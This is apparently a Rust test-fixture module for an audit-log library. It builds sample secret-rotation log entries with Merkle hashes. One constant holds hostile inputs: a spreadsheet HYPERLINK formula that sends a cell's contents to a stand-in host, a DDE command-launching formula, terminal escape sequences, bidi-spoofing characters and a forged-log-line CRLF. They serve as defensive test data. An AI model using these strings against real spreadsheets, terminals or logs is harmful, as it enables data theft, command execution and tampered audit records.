//! Entries as the log gives them, written by a well-behaved agent and by somebody else.

mod formats;
mod stories;

use jiff::{Timestamp, ToSpan};
use serde_json::json;
use turnlock_audit::{Asserted, Direction, Entry, Listed, Outcome, Phase, Recorded, Versions, merkle};

/// Each obeyed by some terminal, spreadsheet or eye.
const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://x/?\"&A1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\u{9b}31m",
    "done\u{202e}deliaf",
    "a\r\n17  rotation  done",
    "\u{2066}x\u{2069}\u{200f}\u{feff}",
    "\t=1;=2",
];

fn at(second: i64) -> Timestamp {
    "2026-11-22T20:14:00Z".parse::<Timestamp>().unwrap() + second.seconds()
}

fn entry(second: i64, action: &str, phase: Phase) -> Entry {
    let mut entry = Entry::new(at(second), action, phase, "entity:agent-1", "turnlock/0.1.0");
    entry.requester = Some("entity:7d2e3179".into());
    entry.asserted = Some(Asserted {
        name: Some("userpass-alice".into()),
        uid: Some(0),
        sudo_uid: Some(1000),
        host: Some("web1".into()),
    });
    entry.trigger = Some("person".into());
    entry.epoch = Some(7);
    entry.trace_id = Some("0af7651916cd43dd8448eb211c80319c".into());
    entry
}

fn listed(seq: u64, entry: Entry) -> Listed {
    let body = entry.canonical().unwrap();
    Listed { seq, leaf: merkle::leaf_hash(&body), body, recorded: None, entry: Some(entry) }
}

/// As a newer version writes it, with keys that this one has never heard of.
fn newer(seq: u64, said: &str) -> Listed {
    let at = at(99).to_string();
    let body = json!({ "action": "apply", "approved_by": [said], "at": at, "format": 9, "target": said });
    let body = serde_json_canonicalizer::to_vec(&body).unwrap();
    Listed { seq, leaf: merkle::leaf_hash(&body), body, recorded: None, entry: None }
}

/// A rotation of one secret, up to where its steps go; each is an action, its target, and how it ended.
fn rotation(steps: &[(&str, Option<&str>, bool, Option<Outcome>)]) -> Vec<Entry> {
    let subjects: std::collections::BTreeMap<_, _> =
        [("JWT_SECRET".to_owned(), Versions { from: Some(3), to: Some(4) })].into();
    let mut entries = vec![entry(0, "rotation", Phase::Intent)];
    entries[0].reason = Some("quarterly".into());
    entries[0].plan_hash = Some("ab".repeat(32));
    entries[0].detail = Some(json!({ "stack": "shop", "plan": plan() }));
    for (index, (action, target, back, outcome)) in steps.iter().enumerate() {
        let second = entries.len() as i64;
        let mut intent = entry(second, action, Phase::Intent);
        intent.step = u32::try_from(index).ok();
        intent.target = target.map(str::to_owned);
        intent.direction = Some(if *back { Direction::Back } else { Direction::Forward });
        entries.push(intent.clone());
        if let Some(outcome) = outcome {
            entries.push(Entry {
                at: at(second + 1),
                phase: Phase::Outcome,
                outcome: Some(*outcome),
                ..intent
            });
        }
    }
    for entry in &mut entries {
        entry.rotation = Some("20261122T201400Z-0a1b2c3d".into());
        entry.subjects = subjects.clone();
    }
    entries
}

fn plan() -> serde_json::Value {
    json!({
        "stack": "shop", "policy_hash": "p", "compose_digest": "c",
        "changes": { "JWT_SECRET": { "from": 3, "to": 4, "value": "new" } },
        "steps": [{ "verb": "stage" }, { "verb": "verify" }, { "verb": "promote" }, { "verb": "retire" }],
        "services": {}
    })
}

fn end(entries: &mut Vec<Entry>, outcome: Outcome) {
    let last = Entry {
        at: at(entries.len() as i64),
        phase: Phase::Outcome,
        outcome: Some(outcome),
        reason: None,
        plan_hash: None,
        detail: None,
        ..entries[0].clone()
    };
    entries.push(last);
}

fn numbered(entries: Vec<Entry>) -> Vec<Listed> {
    entries.into_iter().zip(70..).map(|(entry, seq)| listed(seq, entry)).collect()
}

fn recorded() -> Recorded {
    Recorded { at: at(5), by: "turnlock_writer".into() }
}
